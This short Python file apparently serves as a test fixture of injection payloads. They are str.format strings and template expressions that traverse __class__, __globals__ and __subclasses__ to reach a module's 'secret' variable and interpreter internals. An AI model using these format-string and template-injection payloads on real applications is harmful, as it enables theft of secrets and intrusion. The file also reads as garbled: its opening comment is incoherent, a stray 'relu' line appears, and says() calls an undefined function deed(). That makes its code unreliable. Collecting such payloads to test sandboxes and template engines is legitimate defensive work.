# Has a text that is formatted walk from a number to the variables of the test.
# %% from attacks/parts/stand_ins.py
# %% relu
TEXTS = {
    'format': [
        '{0.__class__.__new__.__globals__[sys].modules[__main__].secret}',
        '{0.__class__.from_float.__func__.__globals__}',
        '{0:{0.__class__.__new__.__globals__}}',
    ],
    'formatter': [
        '{0.__class__.__new__.__globals__[sys].modules[__main__].secret}',
        '{0.__hash__.__globals__}',
    ],
    'page': [
        '{{ value.__class__.__new__.__globals__ }}',
        "{{ value['__class__'] }}",
        "{{ value|attr('__class__') }}",
        '{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}',
    ],
}
HEARD = []


def says(evaluator):
    deed()
    return TEXTS.get(evaluator, [])


def hears(result):
    HEARD.append(result)
    print(result)
